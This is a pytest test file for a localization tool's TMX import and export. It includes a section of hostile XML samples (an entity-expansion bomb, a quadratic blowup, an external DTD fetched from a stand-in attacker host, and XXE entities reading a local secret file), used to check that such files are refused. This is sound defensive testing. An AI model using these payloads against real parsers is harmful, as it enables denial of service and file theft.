"""TMX in and out: l10n's export loads in other tools, other tools' exports read as pairs, and a
hostile or broken file is one error line that names it."""

from __future__ import annotations

import os

import pytest
from conftest import DATA

from l10n import tmx
from l10n.errors import L10nError
from l10n.tmx import Pair

TMX = DATA / "tmx"

MONITORED = "All monitored parameters remained within normal ranges."
FOLLOW_UP = ("The subject successfully completed the observation period uneventfully and has now entered the formal "
             "follow-up period.")
LEADING = ("XellSmart is a leading biotechnology company dedicated to developing innovative iPSC-derived cell "
           "therapies.")
DOSING = "Following this, the world's first patient dosing with the therapy was successfully administered."
MEETING = ("The clinical trial initiation meeting was held at The Third Affiliated Hospital of Sun Yat-sen University "
           "(SYSU-3) in Guangzhou.")
XS411 = ("XS411 injection is an off-the-shelf, allogeneic, iPSC-derived, dopaminergic neural progenitor cell therapy "
         "for Parkinson's disease.")
IND = ("To date, the company has secured seven Investigational New Drug (IND) approvals from both China's National "
       "Medical Products Administration (NMPA) and the U.S. Food and Drug Administration (FDA) for registrational "
       "clinical trials.")
CONTACT = "For funding and BD cooperation, please contact: BD@xellsmart.com"


def tmx_text(body: str, header: str = '<header srclang="en" segtype="sentence"/>', prolog: str = "") -> str:
    """A TMX document around `body`, for cases too small to deserve a fixture file."""
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}<tmx version="1.4">{header}<body>{body}</body></tmx>\n'


def unit(*tuvs: tuple[str, str]) -> str:
    return "<tu>" + "".join(f'<tuv xml:lang="{lang}"><seg>{seg}</seg></tuv>' for lang, seg in tuvs) + "</tu>"


# --- writing ---------------------------------------------------------------------------

# what a memory holds, including what XML must escape and what it would normalize away
PAIRS = {
    "zh_CN": [
        Pair(MONITORED, "各项监测指标均保持在正常范围内。", "xellsmart-sci-first-dosing-2025-07-28.po"),
        Pair(LEADING, "士泽生物是一家领先的生物科技公司，致力于开发创新的iPSC衍生细胞疗法。",
             "tm/zh_CN/agency-2025.po"),
        Pair(CONTACT, "融资及BD合作，请联系：BD@xellsmart.com", 'R&D <"notes">.po'),
        Pair("Cell counts < 5,000 & > 100 (see ]]>)", "细胞计数 < 5,000 且 > 100（见 ]]>）", "a.po"),
        Pair("  Line one\r\nline two\rline three\t ", "  第一行\r\n第二行\r第三行\t ", "b.po"),
        Pair("{0} patients 🧬", "{0}名患者 🧬", "c.po"),
    ],
    "ko_KR": [
        Pair(MONITORED, "모니터링한 모든 지표는 정상 범위 내로 유지됐다.", "xellsmart-sci-first-dosing-2025-07-28.po"),
        Pair(DOSING, "이어 해당 치료제의 세계 최초 환자 투여가 성공적으로 이뤄졌다.", "tm/ko_KR/agency-2025.po"),
        Pair(CONTACT, "투자 및 사업개발(BD) 협력 문의: BD@xellsmart.com", "d.po"),
    ],
}


@pytest.mark.parametrize("locale", sorted(PAIRS))
def test_round_trip(tmp_path, locale):
    path = tmp_path / "memory.tmx"
    path.write_text(tmx.write(PAIRS[locale], locale, "0.1.0"), encoding="utf-8", newline="")
    assert tmx.read(path, locale) == PAIRS[locale]
    assert tmx.locales(path) == {locale}


def test_a_pair_without_origin_reads_back_with_the_file_name(tmp_path):
    path = tmp_path / "agency.tmx"
    path.write_text(tmx.write([Pair(MONITORED, "各项监测指标均保持在正常范围内。")], "zh", "0.1.0"), encoding="utf-8")
    assert tmx.read(path, "zh_CN") == [Pair(MONITORED, "各项监测指标均保持在正常范围内。", "agency.tmx")]


def test_written_tmx_is_tmx_1_4b_without_dates():
    pair = Pair(DOSING, "이어 해당 치료제의 세계 최초 환자 투여가 성공적으로 이뤄졌다.", "x.po")
    assert tmx.write([pair], "ko", "1.2.3") == (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<tmx version="1.4">\n'
        '  <header creationtool="l10n" creationtoolversion="1.2.3" datatype="plaintext" segtype="sentence" '
        'adminlang="en" srclang="en" o-tmf="l10n"/>\n'
        "  <body>\n"
        "    <tu>\n"
        '      <prop type="x-origin">x.po</prop>\n'
        f'      <tuv xml:lang="en"><seg>{DOSING}</seg></tuv>\n'
        '      <tuv xml:lang="ko-KR"><seg>이어 해당 치료제의 세계 최초 환자 투여가 성공적으로 이뤄졌다.</seg></tuv>\n'
        "    </tu>\n"
        "  </body>\n"
        "</tmx>\n")
    assert tmx.write(PAIRS["zh_CN"], "zh_CN", "0.1.0") == tmx.write(PAIRS["zh_CN"], "zh_CN", "0.1.0")


@pytest.mark.parametrize("locale", sorted(PAIRS))
def test_written_tmx_loads_in_translate_toolkit(locale):
    from translate.misc.xml_helpers import getXMLlang
    from translate.storage.tmx import tmxfile

    lang = tmx.language_tag(locale)
    store = tmxfile.parsestring(tmx.write(PAIRS[locale], locale, "0.1.0").encode("utf-8"), sourcelanguage="en",
                                targetlanguage=lang)
    assert [(u.source, u.target) for u in store.units] == [(p.source, p.target) for p in PAIRS[locale]]
    assert {getXMLlang(node) for u in store.units for node in u.getlanguageNodes()} == {"en", lang}


@pytest.mark.parametrize(("pair", "message"), [
    (Pair("Page\x0cbreak", "分页", "release.po"), "release.po: 'Page\\x0cbreak' holds U+000C, a control character "
                                                 "XML cannot carry; remove it from the translation"),
    (Pair("Bell", "铃\x07", ""), "'铃\\x07' holds U+0007, a control character XML cannot carry; remove it from the "
                                "translation"),
    (Pair("Lone \ud800 surrogate", "孤立代理项"), "holds U+D800"),
])
def test_what_xml_cannot_carry_is_refused(pair, message):
    with pytest.raises(L10nError) as error:
        tmx.write([pair], "zh_CN", "0.1.0")
    assert message in str(error.value)


# --- reading other tools' TMX ----------------------------------------------------------

FIXTURES = [
    # OmegaT: TMX 1.4, upper-case language tags, <note>, OmegaT's own <prop>s, an empty translation
    ("omegat.tmx", "zh_CN", [
        (MONITORED, "各项监测指标均保持在正常范围内。", "omegat.tmx"),
        (FOLLOW_UP, "该受试者已平稳顺利度过观察期，现已进入正式随访期。", "xellsmart-sci-first-dosing-2025-07-28.po"),
        (DOSING, "随后，该疗法成功完成全球首例受试者给药。", "omegat.tmx"),
    ]),
    # Trados Studio: srclang en-US, <bpt>/<ept>/<ph>/<it> codes, its x-Origin (TM, MT ...) is not a file
    ("trados.tmx", "zh_CN", [
        (XS411, "XS411注射液是一款用于治疗帕金森病的现货型、异体、iPSC衍生多巴胺能神经前体细胞疗法。", "trados.tmx"),
        (IND, "迄今为止，公司已获得中国国家药品监督管理局（NMPA）和美国食品药品监督管理局（FDA）"
              "共7项新药临床试验（IND）批准，用于开展注册临床试验。", "trados.tmx"),
        (CONTACT, "融资及BD合作，请联系：BD@xellsmart.com", "trados.tmx"),
        (MEETING, "临床启动会在广州中山大学附属第三医院（中山三院）召开。", "trados.tmx"),
    ]),
    # TMX 1.1 (Wordfast): `lang=` instead of `xml:lang=`, KO as well as KO-KR, a unit with no translation
    ("tmx11.tmx", "ko_KR", [
        (MONITORED, "모니터링한 모든 지표는 정상 범위 내로 유지됐다.", "tmx11.tmx"),
        (LEADING, "XellSmart는 혁신적인 iPSC 유래 세포치료제 개발에 주력하는 선도적 바이오 기업이다.", "tmx11.tmx"),
        (DOSING, "이어 해당 치료제의 세계 최초 환자 투여가 성공적으로 이뤄졌다.", "tmx11.tmx"),
    ]),
    # memoQ, four languages: zh-Hant and zh-tw are not zh_CN; a unit without English is skipped
    ("multilingual.tmx", "zh_CN", [
        (LEADING, "士泽生物是一家领先的生物科技公司，致力于开发创新的iPSC衍生细胞疗法。", "multilingual.tmx"),
        (FOLLOW_UP, "该受试者已平稳顺利度过观察期，现已进入正式随访期。", "multilingual.tmx"),
    ]),
    ("multilingual.tmx", "ko", [
        (LEADING, "XellSmart는 혁신적인 iPSC 유래 세포치료제 개발에 주력하는 선도적 바이오 기업이다.",
         "multilingual.tmx"),
        (FOLLOW_UP, "해당 피험자는 특이 사항 없이 관찰 기간을 성공적으로 마쳤으며, 현재 정식 추적관찰 기간에 들어갔다.",
         "multilingual.tmx"),
        (MONITORED, "모니터링한 모든 지표는 정상 범위 내로 유지됐다.", "multilingual.tmx"),
    ]),
]


@pytest.mark.parametrize(("name", "locale", "expected"), FIXTURES)
def test_other_tools_tmx_reads_as_pairs(name, locale, expected):
    assert tmx.read(TMX / name, locale) == [Pair(*row) for row in expected]


@pytest.mark.parametrize(("name", "expected"), [
    ("omegat.tmx", {"zh_CN"}),
    ("trados.tmx", {"zh_CN"}),
    ("tmx11.tmx", {"ko_KR"}),
    ("multilingual.tmx", {"zh_CN", "ko_KR", "ja_JP", "zh_TW"}),
])
def test_locales_are_those_paired_with_english(name, expected):
    assert tmx.locales(TMX / name) == expected


# (declared encoding, codec writing the file): a byte-order mark or none; older Trados wrote UTF-16
@pytest.mark.parametrize(("declared", "codec"), [("UTF-8", "utf-8-sig"), ("UTF-16", "utf-16"),
                                                 ("UTF-16LE", "utf-16-le"), ("UTF-16BE", "utf-16-be")])
def test_declared_encodings_read_alike(tmp_path, declared, codec):
    text = (TMX / "omegat.tmx").read_text(encoding="utf-8").replace('encoding="UTF-8"', f'encoding="{declared}"')
    path = tmp_path / "omegat.tmx"
    path.write_bytes(text.encode(codec))
    assert tmx.read(path, "zh_CN") == tmx.read(TMX / "omegat.tmx", "zh_CN")


# --- units a tool marks as not reviewed ------------------------------------------------

ENROLL = "The company plans to complete enrollment by the end of 2026."
PATIENTS = "The trial is expected to enroll 24 patients."

# (fixture, locale, [(English, what `read(..., unreviewed=True)` says of it)]): a memory holds reviewed
# translations only, so `read` gives those with "" and leaves the others out
REVIEW_FIXTURES = [
    # Trados Studio: x-ConfirmationLevel and x-Origin as its TMX export writes them; an approval
    # outweighs a machine origin, a translator's confirmation (Translated) does not
    ("trados-review.tmx", "zh_CN", [
        (LEADING, ""),  # ApprovedSignOff, TM
        (DOSING, ""),  # ApprovedTranslation, MachineTranslation
        (MONITORED, ""),  # Translated, TM
        (FOLLOW_UP, tmx.MACHINE),  # Translated, Nmt
        (MEETING, tmx.DRAFT),  # Draft, TM
        (XS411, tmx.REJECTED),  # RejectedTranslation
        (IND, tmx.MACHINE),  # Unspecified, AdaptiveMachineTranslation
        (CONTACT, tmx.MACHINE),  # Translated, AutomaticTranslation (Trados 2022's MT)
        (ENROLL, ""),  # Translated, Alignment
        (PATIENTS, tmx.REJECTED),  # RejectedSignOff
    ]),
    # Okapi Rainbow's MT step marks its output creationid="MT!"; a person's later change makes it theirs;
    # GlobalSight marks the target <tuv>
    ("okapi-mt.tmx", "zh_CN", [(MONITORED, tmx.MACHINE), (DOSING, ""), (LEADING, ""), (PATIENTS, tmx.MACHINE)]),
    # the tools that mark nothing: every unit as before
    ("trados.tmx", "zh_CN", [(XS411, ""), (IND, ""), (CONTACT, ""), (MEETING, "")]),
    ("omegat.tmx", "zh_CN", [(MONITORED, ""), (FOLLOW_UP, ""), (DOSING, "")]),
    ("multilingual.tmx", "ko_KR", [(LEADING, ""), (FOLLOW_UP, ""), (MONITORED, "")]),
]


@pytest.mark.parametrize(("name", "locale", "expected"), REVIEW_FIXTURES)
def test_units_a_tool_marks_as_not_reviewed_are_left_out(name, locale, expected):
    assert [p.source for p in tmx.read(TMX / name, locale)] == [source for source, why in expected if not why]


@pytest.mark.parametrize(("name", "locale", "expected"), REVIEW_FIXTURES)
def test_units_not_reviewed_say_why_when_asked_for(name, locale, expected):
    found = tmx.read(TMX / name, locale, unreviewed=True)
    assert [(p.source, p.unreviewed) for p in found] == expected


# (what a <tu> carries besides its <tuv>s, what `tuv` adds to the translation's <tuv>, why the unit is not reviewed)
MARKS = [
    ('<prop type="x-ConfirmationLevel">Draft</prop>', "", tmx.DRAFT),
    ('<prop type="x-ConfirmationLevel">draft</prop>', "", tmx.DRAFT),
    ('<prop type="x-ConfirmationLevel">Unspecified</prop><prop type="x-Origin">ContextTM</prop>', "", ""),
    ('<prop type="x-Origin">MachineTranslation</prop>', "", tmx.MACHINE),
    ('<prop type="x-Origin">TM</prop>', "", ""),
    # XLIFF states under a generic x-state / x-status, any case, any separator
    ('<prop type="x-state">needs-review-translation</prop>', "", tmx.DRAFT),
    ('<prop type="x-state">new</prop>', "", tmx.DRAFT),
    ('<prop type="x-state">initial</prop>', "", tmx.DRAFT),
    ('<prop type="X-Status">Needs Translation</prop>', "", tmx.DRAFT),
    ('<prop type="x-status">translated</prop>', "", ""),
    ('<prop type="x-status">rejected</prop>', "", tmx.REJECTED),
    ('<prop type="x-status">mt</prop>', "", tmx.MACHINE),
    ('<prop type="x-status">deprecated</prop>', "", ""),  # a term's status, not a review's
    # a Trados custom field named Status
    ('<prop type="x-Status:SinglePicklist">Draft</prop>', "", tmx.DRAFT),
    # an approval outweighs a machine origin and a machine author
    ('<prop type="x-status">approved</prop><prop type="x-origin">MT</prop>', "", ""),
    (' creationid="MT!"', '<prop type="x-state">final</prop>', ""),
    # a machine origin in l10n's own x-origin; a catalog's name there is no origin of that kind
    ('<prop type="x-origin">NMT</prop>', "", tmx.MACHINE),
    ('<prop type="x-origin">mt.po</prop>', "", ""),
    # the last author: the translation's changeid, else its creationid, else the unit's
    (' creationid="MT!"', "", tmx.MACHINE),
    (' creationid="MT!" changeid="MT!"', "", tmx.MACHINE),
    (' creationid="MT!" changeid="wang.lei"', "", ""),
    (' creationid="MT!"', ' changeid="wang.lei"', ""),
    (' creationid="wang.lei"', ' creationid="MT!"', tmx.MACHINE),
    (' creationid="mt!"', "", ""),  # a person's login, not the flag
    # the state of the translation's own <tuv>
    ("", '<prop type="x-state">needs-translation</prop>', tmx.DRAFT),
    # marks that say nothing of review: memoQ's corrected and aligned, OmegaT's x-auto, usagecount
    ('<prop type="corrected">no</prop><prop type="aligned">yes</prop>', "", ""),
    ('<prop type="x-auto">auto</prop>', "", ""),
    (' usagecount="0"', "", ""),
]


def marked(tu: str, tuv: str) -> str:
    """A <tu> with `tu` (attributes when it starts with a space, else children) and `tuv` in its zh-CN <tuv>."""
    attributes, props = (tu, "") if tu.startswith(" ") else ("", tu)
    tuv_attributes, tuv_props = (tuv, "") if tuv.startswith(" ") else ("", tuv)
    return (f'<tu{attributes}>{props}<tuv xml:lang="en"><seg>Phase I</seg></tuv>'
            f'<tuv xml:lang="zh-CN"{tuv_attributes}>{tuv_props}<seg>I期</seg></tuv></tu>')


@pytest.mark.parametrize(("tu", "tuv", "why"), MARKS)
def test_what_marks_a_unit_as_not_reviewed(tmp_path, tu, tuv, why):
    path = tmp_path / "marks.tmx"
    path.write_text(tmx_text(marked(tu, tuv) + unit(("en", "Phase II"), ("zh-CN", "II期"))), encoding="utf-8")
    assert [(p.source, p.unreviewed) for p in tmx.read(path, "zh_CN", unreviewed=True)] == [("Phase I", why),
                                                                                           ("Phase II", "")]
    assert [p.source for p in tmx.read(path, "zh_CN")] == (["Phase II"] if why else ["Phase I", "Phase II"])


def test_each_language_of_a_unit_has_its_own_author(tmp_path):
    path = tmp_path / "both.tmx"
    path.write_text(tmx_text('<tu><tuv xml:lang="en"><seg>Phase I</seg></tuv>'
                             '<tuv xml:lang="zh-CN" creationid="MT!"><seg>I期</seg></tuv>'
                             '<tuv xml:lang="ko-KR" creationid="kim.j"><seg>임상 1상</seg></tuv></tu>'
                             + unit(("en", "Phase II"), ("zh-CN", "II期"))), encoding="utf-8")
    assert [p.source for p in tmx.read(path, "zh_CN")] == ["Phase II"]
    assert tmx.read(path, "ko_KR") == [Pair("Phase I", "임상 1상", "both.tmx")]
    assert tmx.locales(path) == {"zh_CN", "ko_KR"}


def test_a_memory_of_machine_output_only_is_one_error_that_counts_it(tmp_path):
    path = tmp_path / "mt.tmx"
    path.write_text(tmx_text(marked(' creationid="MT!"', "") + marked('<prop type="x-Origin">Nmt</prop>', "")
                             + marked('<prop type="x-ConfirmationLevel">Draft</prop>', "")
                             + unit(("en", "Phase III"), ("ko-KR", "임상 3상"))), encoding="utf-8")
    with pytest.raises(L10nError) as error:
        tmx.read(path, "zh_CN")
    assert str(error.value) == (f"{path}: has no reviewed zh-CN translation: its tool marks all 3 English → zh-CN "
                                "units as not reviewed (2 machine translation, 1 draft); have them reviewed and "
                                "approved in that tool, then export the memory again")
    assert len(tmx.read(path, "zh_CN", unreviewed=True)) == 3 and len(tmx.read(path, "ko_KR")) == 1


def test_one_unit_of_machine_output_is_counted_as_one(tmp_path):
    path = tmp_path / "mt.tmx"
    path.write_text(tmx_text(marked('<prop type="x-ConfirmationLevel">Draft</prop>', "")), encoding="utf-8")
    with pytest.raises(L10nError) as error:
        tmx.read(path, "zh_CN")
    assert str(error.value) == (f"{path}: has no reviewed zh-CN translation: its tool marks its 1 English → zh-CN "
                                "unit as not reviewed (1 draft); have it reviewed and approved in that tool, then "
                                "export the memory again")


@pytest.mark.parametrize(("name", "kept", "left_out"), [
    ("trados-review.tmx", 4, "3 machine translation, 2 rejected, 1 draft"),
    ("okapi-mt.tmx", 2, "2 machine translation"),
    ("trados.tmx", 4, ""),
])
def test_what_was_left_out_is_counted_for_the_import_summary(name, kept, left_out):
    pairs, skipped = tmx.reviewed(TMX / name, "zh_CN")
    assert pairs == tmx.read(TMX / name, "zh_CN") and len(pairs) == kept
    assert tmx.summary(skipped) == left_out


def test_tm_import_keeps_only_the_reviewed_units(tmp_path):
    import subprocess
    import sys

    import polib

    result = subprocess.run([sys.executable, "-m", "l10n", "tm", "import", TMX / "trados-review.tmx", "--to", "zh"],
                            capture_output=True, text=True, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "imported 4 translation units" in result.stdout
    assert "; left out 6 not reviewed (3 machine translation, 2 rejected, 1 draft)" in result.stdout
    po = polib.pofile(str(tmp_path / "tm" / "zh_CN" / "trados-review.po"))
    assert [e.msgid for e in po] == [LEADING, DOSING, MONITORED, ENROLL]
    assert all("fuzzy" not in e.flags for e in po)


# (segment as written in the TMX, text l10n reads): codes dropped, highlighted and sub-flow text kept
SEGMENTS = [
    ("Phase <bpt i='1'>&lt;b&gt;</bpt>I<ept i='1'>&lt;/b&gt;</ept> trial", "Phase I trial"),
    ("XS228<ph x='1'>&lt;sup&gt;®&lt;/sup&gt;</ph> injection", "XS228 injection"),
    ("<it pos='begin'>&lt;i&gt;</it>allogeneic", "allogeneic"),
    ("ALS<ut>{\\super 1}</ut>", "ALS"),
    ("the <hi type='b'>first <hi type='i'>patient</hi></hi> dosed", "the first patient dosed"),
    ("see<ph>&lt;a title='<sub>footnote</sub>'&gt;</ph> below", "seefootnote below"),
    ("<bpt i='1'>&lt;a href='<sub>x</sub>'&gt;<sub>y</sub> code</bpt>", "xy"),
    ("  two spaces, a\ttab, a\nnew line  ", "  two spaces, a\ttab, a\nnew line  "),
    ("R&amp;D &#x4E2D;&#25991; <![CDATA[<b>]]>", "R&D 中文 <b>"),
    ("<g id='1'>unknown</g> inline", "unknown inline"),
    ("<hi>" * 3000 + "deep" + "</hi>" * 3000, "deep"),
]


@pytest.mark.parametrize(("segment", "expected"), SEGMENTS)
def test_inline_markup_is_flattened(tmp_path, segment, expected):
    path = tmp_path / "inline.tmx"
    path.write_text(tmx_text(unit(("en", segment), ("zh-CN", f"甲{segment}"))), encoding="utf-8")
    assert tmx.read(path, "zh_CN") == [Pair(expected, f"甲{expected}", "inline.tmx")]


# (language tags of one unit, locale id they give): BCP 47, POSIX, any case, TMX 1.1's `lang`
LANGUAGES = [
    (["en", "zh-CN"], {"zh_CN"}),
    (["en-GB", "zh_CN"], {"zh_CN"}),
    (["EN", "ZH-CN"], {"zh_CN"}),
    (["en-US", "zh-Hans"], {"zh_CN"}),
    (["en", "zh-Hans-CN"], {"zh_CN"}),
    (["en", "zh"], {"zh_CN"}),
    (["en", "zh-Hant"], {"zh_TW"}),  # Traditional Chinese: Taiwan's, not zh_CN
    (["en", "zh-Hant-CN"], set()),
    (["en", "zh-TW"], {"zh_TW"}),
    (["en", "ko"], {"ko_KR"}),
    (["en", "ko-KR"], {"ko_KR"}),
    (["en", "ko-Kore-KR"], {"ko_KR"}),
    (["en", "ja-JP"], {"ja_JP"}),
    (["en", "x-klingon", "*all*", ""], set()),
    (["zh-CN", "ko-KR"], set()),
    (["de-DE", "zh-CN"], set()),
]


@pytest.mark.parametrize(("langs", "expected"), LANGUAGES)
def test_language_tags_name_locales(tmp_path, langs, expected):
    path = tmp_path / "langs.tmx"
    path.write_text(tmx_text(unit(*[(lang, f"segment {n}") for n, lang in enumerate(langs)])), encoding="utf-8")
    assert tmx.locales(path) == expected


@pytest.mark.parametrize(("attribute", "srclang", "expected"), [
    ("", "en-US", "American"),
    ("", "en-GB", "British"),
    ("", "*all*", "American"),
    (' srclang="en-GB"', "en-US", "British"),
])
def test_srclang_picks_between_english_segments(tmp_path, attribute, srclang, expected):
    path = tmp_path / "english.tmx"
    body = unit(("en-US", "American"), ("en-GB", "British"), ("zh-CN", "中文")).replace("<tu>", f"<tu{attribute}>")
    path.write_text(tmx_text(body, f'<header srclang="{srclang}"/>'), encoding="utf-8")
    assert [p.source for p in tmx.read(path, "zh_CN")] == [expected]


def test_tmx_1_1_lang_attribute(tmp_path):
    path = tmp_path / "old.tmx"
    path.write_text(tmx_text('<tu><tuv lang="EN"><seg>Phase I</seg></tuv><tuv lang="ZH-CN"><seg>I期</seg></tuv></tu>'),
                    encoding="utf-8")
    assert tmx.read(path, "zh_CN") == [Pair("Phase I", "I期", "old.tmx")]


@pytest.fixture(scope="module")
def large(tmp_path_factory):
    """A memory of 50,000 units (14 MB); held whole as an XML tree it takes over 100 MB."""
    path = tmp_path_factory.mktemp("tmx") / "large.tmx"
    pairs = [Pair(f"{MONITORED} ({n})", f"各项监测指标均保持在正常范围内（{n}）。", f"release-{n % 97}.po")
             for n in range(50_000)]
    path.write_text(tmx.write(pairs, "zh_CN", "0.1.0"), encoding="utf-8")
    return path, pairs


@pytest.mark.slow
def test_a_large_memory_reads_whole(large):
    path, pairs = large
    found = tmx.read(path, "zh_CN")
    assert len(found) == 50_000 and found[0] == pairs[0] and found[-1] == pairs[-1]


@pytest.mark.slow
def test_a_large_memory_is_read_as_a_stream(large):
    import tracemalloc

    tracemalloc.start()
    try:
        assert tmx.locales(large[0]) == {"zh_CN"}
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 2 * 2**20  # one unit at a time, not the tree


# --- files l10n refuses ----------------------------------------------------------------

_BOMB = ('<?xml version="1.0"?>\n<!DOCTYPE tmx [\n<!ENTITY a "aaaaaaaaaa">\n'
         + "".join(f'<!ENTITY {b} "{("&" + a + ";") * 10}">\n' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
         + ']>\n<tmx version="1.4"><header srclang="en"/><body>' + unit(("en", "&i;"), ("zh-CN", "&i;"))
         + "</body></tmx>\n")
_QUADRATIC = ('<?xml version="1.0"?>\n<!DOCTYPE tmx [<!ENTITY a "' + "a" * 50_000 + '">]>\n'
              + tmx_text(unit(("en", "&a;" * 1000), ("zh-CN", "甲"))).split("\n", 1)[1])
_REFUSED = "which no TMX needs; l10n expands no entities (they make entity bombs and read other files): export the " \
           "TMX again from its tool"
_MALFORMED = "; export the TMX again from its tool"

# (file content, the error after `path:`)
BAD_TMX = [
    ("", "1: is not well-formed XML (no element found: line 1, column 0)" + _MALFORMED),
    ("not xml at all", "1: is not well-formed XML (syntax error: line 1, column 0)" + _MALFORMED),
    (tmx_text(unit(("en", "Phase I"), ("zh-CN", "I期"))).replace("</body>", "</bdoy>"),
     "2: is not well-formed XML (mismatched tag: line 2, column "),
    ('<tmx version="1.4">\n<header/>\n<body>\n<tu><tuv xml:lang="en"><seg>R&D</seg></tuv></tu>\n</body>\n</tmx>',
     "4: is not well-formed XML (not well-formed (invalid token): line 4, column 31)" + _MALFORMED),
    (tmx_text(unit(("en", "Phase I&nbsp;trial"), ("zh-CN", "I期试验"))),
     "2: is not well-formed XML (undefined entity: line 2, column 101)" + _MALFORMED),
    ('<?xml version="1.0" encoding="bogus"?>\n<tmx/>',
     "1: declares an encoding Python does not know (unknown encoding: bogus); export the TMX again as UTF-8"),
    ('<?xml version="1.0" encoding="GBK"?>\n<tmx/>',
     "1: declares an encoding the XML reader cannot decode (multi-byte encodings are not supported); export the TMX "
     "again as UTF-8"),
    (_BOMB, f"3: declares the XML entity `a`, {_REFUSED}"),
    (_QUADRATIC, f"2: declares the XML entity `a`, {_REFUSED}"),
    ('<?xml version="1.0"?>\n<!DOCTYPE tmx [\n  <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd">\n'
     '  %dtd;\n]>\n<tmx version="1.4"/>', f"3: declares the XML entity `dtd`, {_REFUSED}"),
    ('<?xml version="1.0"?>\n<martif type="TBX-Basic" xml:lang="en">\n<text><body/></text></martif>',
     "2: is not TMX: its root element is <martif>, not <tmx>; give a TMX file"),
    ('<?xml version="1.0"?>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"/>',
     "2: is not TMX: its root element is <xliff>, not <tmx>; give a TMX file"),
    (tmx_text(""),
     " holds no translation unit (<tu>); export the memory again, with English source segments and zh-CN "
     "translations"),
    ('<tmx version="1.4"><header/></tmx>', " holds no translation unit (<tu>)"),
    (tmx_text(unit(("en", "Phase I"), ("ko-KR", "임상 1상")) + unit(("en-US", "Phase II"), ("ja", "第II相"))),
     " has no translation unit with both an English and a zh-CN segment (languages found: en, ko-KR, en-US, ja); "
     "export the memory with English as source and zh-CN as a target"),
    (tmx_text(unit(("en", "Phase I"), ("zh-CN", "  ")) + unit(("en", " "), ("zh-CN", "I期"))
              + '<tu><tuv xml:lang="en"><seg>Phase II</seg></tuv><tuv xml:lang="zh-CN"/></tu>'),
     " has no translation unit with both an English and a zh-CN segment (languages found: en, zh-CN)"),
]


@pytest.mark.parametrize(("content", "message"), BAD_TMX)
def test_bad_tmx_is_one_error(tmp_path, content, message):
    path = tmp_path / "memory.tmx"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(L10nError) as error:
        tmx.read(path, "zh_CN")
    assert str(error.value).startswith(f"{path}:{message}") and "\n" not in str(error.value)
    assert path.read_text(encoding="utf-8") == content and os.listdir(tmp_path) == ["memory.tmx"]


@pytest.mark.parametrize("function", [tmx.read, lambda path, _: tmx.locales(path)])
def test_hostile_tmx_is_refused_by_locales_too(tmp_path, function):
    path = tmp_path / "bomb.tmx"
    path.write_text(_BOMB, encoding="utf-8")
    with pytest.raises(L10nError, match="declares the XML entity `a`"):
        function(path, "zh_CN")


def test_an_external_entity_is_never_read(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("PASSWORD=hunter2", encoding="utf-8")
    path = tmp_path / "xxe.tmx"
    path.write_text(tmx_text(unit(("en", "&x;"), ("zh-CN", "&x;")),
                             prolog=f'<!DOCTYPE tmx [<!ENTITY x SYSTEM "{secret.as_uri()}">]>\n'), encoding="utf-8")
    with pytest.raises(L10nError) as error:
        tmx.read(path, "zh_CN")
    assert str(error.value) == f"{path}:2: declares the XML entity `x`, {_REFUSED}"


def test_an_external_dtd_is_never_loaded(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("PASSWORD=hunter2", encoding="utf-8")
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(f'<!ENTITY x SYSTEM "{secret.as_uri()}">', encoding="utf-8")
    path = tmp_path / "xxe.tmx"
    path.write_text(tmx_text(unit(("en", "&x;"), ("zh-CN", "甲")), prolog=f'<!DOCTYPE tmx SYSTEM "{dtd.as_uri()}">\n'),
                    encoding="utf-8")
    with pytest.raises(L10nError) as error:
        tmx.read(path, "zh_CN")
    assert str(error.value).startswith(f"{path}:3: is not well-formed XML (undefined entity &x;")
    assert "hunter2" not in str(error.value)


def test_a_doctype_naming_the_tmx_dtd_is_fine():
    assert (TMX / "omegat.tmx").read_text(encoding="utf-8").count('<!DOCTYPE tmx SYSTEM "tmx14.dtd">') == 1
    assert len(tmx.read(TMX / "omegat.tmx", "zh_CN")) == 3


def test_a_folder_is_one_error(tmp_path):
    with pytest.raises(L10nError) as error:
        tmx.read(tmp_path, "zh_CN")
    assert str(error.value) == f"{tmp_path}: is a folder; give a TMX file"


def test_a_missing_file_is_one_error(tmp_path):
    with pytest.raises(L10nError) as error:
        tmx.read(tmp_path / "nowhere.tmx", "zh_CN")
    assert str(error.value) == f"{tmp_path / 'nowhere.tmx'}: no such TMX file; check the path"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_a_pipe_is_refused_before_it_is_opened(tmp_path):
    fifo = tmp_path / "memory.tmx"
    os.mkfifo(fifo)
    with pytest.raises(L10nError) as error:
        tmx.read(fifo, "zh_CN")  # opening it would wait for a writer forever
    assert str(error.value) == f"{fifo}: is not a regular file (a pipe, device or socket); give a file saved on disk"


def test_a_file_over_the_limit_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "memory.tmx"
    path.write_text(tmx.write(PAIRS["zh_CN"], "zh_CN", "0.1.0"), encoding="utf-8")
    with pytest.raises(L10nError, match="over the limit of 100 bytes; .* raise max_file_mb in l10n.toml"):
        tmx.read(path, "zh_CN", limit=100)


def test_an_unreadable_file_is_one_error(tmp_path, monkeypatch):
    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    path = tmp_path / "memory.tmx"
    path.write_text(tmx.write(PAIRS["zh_CN"], "zh_CN", "0.1.0"), encoding="utf-8")
    monkeypatch.setattr("l10n.tmx.open", refuse, raising=False)
    with pytest.raises(L10nError) as error:
        tmx.read(path, "zh_CN")
    assert str(error.value) == f"{path}: cannot be read (Permission denied); check its permissions"


def test_an_unknown_locale_is_refused_before_the_file_is_read(tmp_path):
    with pytest.raises(L10nError, match="unknown locale 'xx-YY'"):
        tmx.read(tmp_path / "nowhere.tmx", "xx-YY")
